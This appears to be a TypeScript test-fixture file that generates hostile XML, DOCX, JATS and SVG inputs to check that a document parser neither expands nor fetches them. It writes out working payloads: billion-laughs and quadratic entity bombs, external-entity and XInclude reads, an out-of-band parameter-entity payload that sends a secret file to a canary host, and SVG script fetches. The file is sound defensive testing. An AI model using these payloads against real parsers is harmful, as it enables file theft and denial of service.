import { docx } from "./archives.ts";
import { type Aim, type Ending, type HostileFile, harmless, lures } from "./hostile-file.ts";

const notExpanded: readonly Ending[] = [...harmless, "document-broken"];

/** Ten entities, each ten times the one before: 10^9 laughs. */
const laughs = `<!DOCTYPE r [<!ENTITY l0 "ha ha ha ">${Array.from(
  { length: 9 },
  (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`,
).join("")}]>`;

/** One long entity, referenced very often. */
const longEntity = (isSmall: boolean) =>
  `<!DOCTYPE r [<!ENTITY long "${"ha ".repeat(isSmall ? 5000 : 50_000)}">]>`;
const manyTimes = (isSmall: boolean) => "&long;".repeat(isSmall ? 5000 : 50_000);

const externalEntities = (aim: Aim) =>
  `<!DOCTYPE r [${lures(aim)
    .map((lure, at) => `<!ENTITY e${at} SYSTEM "${lure}">`)
    .join("")}]>`;
const named = (aim: Aim) =>
  lures(aim)
    .map((_, at) => `&e${at};`)
    .join(" ");

function xml(prologue: string, content: string): Buffer {
  return Buffer.from(`<?xml version="1.0"?>\n${prologue}<r>before ${content} after</r>`);
}

function inDocx(prologue: string, content: string): Buffer {
  const w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
  return docx({
    "word/document.xml": `<?xml version="1.0"?>${prologue}<w:document xmlns:w="${w}"><w:body><w:p><w:r><w:t>before ${content} after</w:t></w:r></w:p></w:body></w:document>`,
  });
}

/** The same attack as a separate file and within a DOCX. */
function both(
  what: string,
  prologue: (aim: Aim) => string,
  content: (aim: Aim) => string,
): readonly HostileFile[] {
  const lacks = ["ha ha ha ha ha ha ha ha ha ha ha ha"];
  return [
    {
      name: `xml with ${what}.xml`,
      make: (aim) => xml(prologue(aim), content(aim)),
      endsAs: notExpanded,
      lacks,
    },
    {
      name: `docx with ${what}.docx`,
      make: (aim) => inDocx(prologue(aim), content(aim)),
      endsAs: [...notExpanded, "document-over-limit"],
      lacks,
    },
  ];
}

export const hostileXml: readonly HostileFile[] = [
  ...both(
    "a billion laughs",
    () => laughs,
    () => "&l9;",
  ),
  {
    name: "xml with an entity that grows by the square.xml",
    make: ({ isSmall }) => xml(longEntity(isSmall), manyTimes(isSmall)),
    endsAs: notExpanded,
    lacks: ["ha ha ha ha ha ha"],
  },
  {
    name: "docx with an entity that grows by the square.docx",
    make: ({ isSmall }) => inDocx(longEntity(isSmall), manyTimes(isSmall)),
    endsAs: [...notExpanded, "document-over-limit"],
    lacks: ["ha ha ha ha ha ha"],
  },
  ...both("entities from files and addresses", externalEntities, named),
  ...both(
    "a grammar from elsewhere",
    ({ canary }) => `<!DOCTYPE r SYSTEM "${canary}/grammar.dtd">`,
    () => "text",
  ),
  ...both(
    "parameter entities that call home",
    ({ canary, secret }) =>
      `<!DOCTYPE r [<!ENTITY % file SYSTEM "file://${secret}"><!ENTITY % dtd SYSTEM "${canary}/evil.dtd">%dtd;%send;]>`,
    () => "text",
  ),
  {
    name: "article with entities of a grammar from elsewhere.nxml",
    make: ({ canary }) =>
      Buffer.from(
        `<!DOCTYPE article PUBLIC "-//NLM//DTD JATS//EN" "${canary}/jats.dtd"><article><p>before &send; &eacute; after</p></article>`,
      ),
    endsAs: harmless,
    holds: ["&send; é"],
  },
  {
    name: "xml with a hundred thousand names of entities.xml",
    make: () =>
      Buffer.from(
        `<!DOCTYPE r SYSTEM "r.dtd"><r>before ${Array.from({ length: 100_000 }, (_, at) => `&e${at};`).join(" ")} after</r>`,
      ),
    endsAs: [...harmless, "document-over-limit"],
  },
  {
    name: "xml that includes others.xml",
    make: (aim) =>
      xml(
        `<?xml-stylesheet type="text/xsl" href="${aim.canary}/style.xsl"?>`,
        lures(aim)
          .map((lure) => `<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="${lure}" parse="text"/>`)
          .join(""),
      ),
    endsAs: notExpanded,
  },
  {
    name: "xml of a hundred thousand levels.xml",
    make: () => xml("", `${"<a>".repeat(100_000)}deep${"</a>".repeat(100_000)}`),
    endsAs: [...notExpanded, "document-over-limit"],
  },
  {
    name: "svg with a script and entities.svg",
    make: (aim) =>
      Buffer.from(
        `<?xml version="1.0"?>${externalEntities(aim).replace("DOCTYPE r", "DOCTYPE svg")}<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${aim.canary}/onload')"><script>fetch("${aim.canary}/script")</script><image href="${aim.canary}/image"/><use href="${aim.canary}/use#x"/><text>before ${named(aim)} after</text></svg>`,
      ),
    endsAs: [...notExpanded, "type-unknown"],
  },
];
